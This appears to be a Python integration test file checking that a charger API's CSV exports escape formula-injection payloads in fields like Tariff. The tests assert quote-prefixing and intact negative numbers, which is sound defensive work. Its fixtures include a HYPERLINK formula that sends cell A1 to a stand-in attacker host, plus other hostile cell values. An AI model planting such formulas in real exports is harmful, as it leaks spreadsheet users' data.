"""Issue 14 (low): CSV exports escape charger-chosen text against formula injection.

A charger chooses its ``Tariff`` (and other text fields); a spreadsheet runs a cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula. Every
CSV the API writes prefixes such text cells with a single quote (OWASP); numbers,
negative ones included, stay numbers.
"""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from chargelift_api.routes.common import csv_response
from chargelift_devstack.postgres import PostgresServer
from tests.conftest import scratch
from tests.integration.api.conftest import READ_TOKEN, LiveApi, start_api
from tests.support.db import Row, fresh_database, plant_readings, reading_row

pytestmark = pytest.mark.integration

T1 = datetime(2026, 11, 10, 12, tzinfo=UTC)
CHARGER = "evil-1"
HYPERLINK = '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")'
# (seconds after T1, field, value): two charging sessions, each under a hostile tariff.
HISTORY: list[tuple[int, str, float | str | bool]] = [
    (-60, "OperationState", "idle"),
    (-60, "ConnectedVehicle", False),
    (-60, "EnergyPrice", 30.0),
    (-60, "TotalEnergyConsumption", 1000.0),
    (-60, "Tariff", HYPERLINK),
    (0, "OperationState", "charging"),
    (0, "ConnectedVehicle", True),
    (0, "PowerOutput", 7000.0),
    (600, "TotalEnergyConsumption", 2000.0),
    (600, "PowerOutput", -5.5),  # a negative number stays a number
    (900, "OperationState", "idle"),
    (900, "ConnectedVehicle", False),
    (1200, "Tariff", "@SUM(1)"),
    (1200, "OperationState", "charging"),
    (1200, "ConnectedVehicle", True),
    (1800, "TotalEnergyConsumption", 3000.0),
    (2100, "OperationState", "idle"),
    (2100, "ConnectedVehicle", False),
    (2400, "Tariff", "\tT2"),
    (2460, "Tariff", "+T3"),
    (2520, "Tariff", "-T4"),
    (2580, "Tariff", "\rT5"),
]


def rows() -> Iterator[Row]:
    for s, field, value in HISTORY:
        yield reading_row(T1 + timedelta(seconds=s), CHARGER, field, value)


async def plant(dsn: str) -> None:
    await plant_readings(dsn, rows())


@pytest.fixture(scope="module")
def evil_api(postgres: PostgresServer, base_dir: Path) -> Iterator[LiveApi]:
    dsn = asyncio.run(fresh_database(postgres, "evil"))
    asyncio.run(plant(dsn))
    api = start_api(dsn, scratch(base_dir, "api"))
    yield api
    api.stop()


WINDOW = {
    "from": (T1 - timedelta(hours=1)).isoformat(),
    "to": (T1 + timedelta(hours=2)).isoformat(),
}


async def get_csv(api: LiveApi, path: str, **params: str | int) -> list[dict[str, str]]:
    async with httpx.AsyncClient(
        base_url=api.url,
        headers={"Authorization": f"Bearer {READ_TOKEN}"},
        timeout=10.0,
        trust_env=False,
    ) as c:
        r = await c.get(
            f"/api/v1/chargers/{CHARGER}/{path}", params={**WINDOW, **params, "format": "csv"}
        )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(r.text, newline="")))


async def test_sessions_csv_escapes_hostile_tariffs(evil_api: LiveApi) -> None:
    lines = await get_csv(evil_api, "sessions")
    assert {line["tariff"] for line in lines} == {"'" + HYPERLINK, "'@SUM(1)"}
    # numbers are plain numbers, the negative peak power of the second session too
    assert sum(float(line["energy_wh"]) for line in lines) == 2000.0
    assert lines[-1]["peak_power_w"] == "-5.5"


async def test_readings_csv_escapes_text_and_keeps_negative_numbers(evil_api: LiveApi) -> None:
    tariffs = [p["Tariff"] for p in await get_csv(evil_api, "readings", field="Tariff")]
    assert tariffs == ["'" + HYPERLINK, "'@SUM(1)", "'\tT2", "'+T3", "'-T4", "'\rT5"]
    power = [p["PowerOutput"] for p in await get_csv(evil_api, "readings", field="PowerOutput")]
    assert power == ["7000.0", "-5.5"]
    buckets = await get_csv(evil_api, "readings", field="PowerOutput", bucket=3600)
    assert "-5.5" in [b["min"] for b in buckets]


def test_the_writer_escapes_only_text_cells() -> None:
    body = csv_response(
        ("a", "b", "c", "d", "e"),
        [("=1+1", -3, -2.5, "plain", "-x"), ("@a", 0, None, "a=b", "")],
        "x.csv",
    ).body
    assert isinstance(body, bytes)
    got = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert got[1:] == [["'=1+1", "-3", "-2.5", "plain", "'-x"], ["'@a", "0", "", "a=b", ""]]
